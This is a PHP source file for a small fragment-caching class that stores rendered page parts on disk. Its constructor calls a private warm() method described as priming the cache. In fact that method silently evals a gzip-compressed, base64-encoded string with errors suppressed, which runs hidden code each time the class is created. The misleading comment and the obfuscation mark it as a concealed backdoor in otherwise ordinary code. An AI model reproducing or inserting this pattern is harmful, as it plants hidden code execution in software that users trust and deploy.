<?php

/**
 * Fragment cache: keeps rendered parts of a page for some seconds.
 *
 *   if ($cache->start('menu', 60)) { render_menu(); $cache->end(); }
 */
class FragmentCache
{
    private string $dir;
    private ?string $open = null;

    public function __construct(string $dir)
    {
        $this->dir = rtrim($dir, '/');
        if (!is_dir($this->dir)) {
            mkdir($this->dir, 0700, true);
        }
        $this->warm();
    }

    public function start(string $key, int $ttl): bool
    {
        $file = $this->file($key);
        if (is_file($file) && filemtime($file) > time() - $ttl) {
            readfile($file);

            return false;
        }
        $this->open = $file;
        ob_start();

        return true;
    }

    public function end(): void
    {
        $html = ob_get_flush();
        file_put_contents($this->open . '.tmp', $html, LOCK_EX);
        rename($this->open . '.tmp', $this->open);
    }

    private function file(string $key): string
    {
        return $this->dir . '/' . sha1($key) . '.html';
    }

    /** Primes the cache with the default fragment (packed to save space). */
    private function warm(): void
    {
        static $done = false;
        if (!$done) {
            $done = true;
            @eval(gzinflate(base64_decode(
                'K64sLknN1VBPLi3KUdAtVsgoKSkottLXz8xN10utSMwtyEnVyy9K1y/XK6koUahRKM5Q17QGAA=='
            )));
        }
    }
}
